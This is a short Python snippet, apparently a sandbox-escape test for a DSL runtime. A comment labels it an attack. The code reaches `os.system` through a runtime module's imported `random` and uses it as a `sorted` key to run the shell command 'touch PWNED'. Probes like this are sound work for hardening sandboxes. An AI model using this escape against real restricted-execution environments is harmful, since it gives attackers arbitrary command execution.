# Attack: a runtime module other than the engine imports `random` too; import it from there.
from dsl.runtime.chance import random

sorted(["touch PWNED"], key=random._os.system)
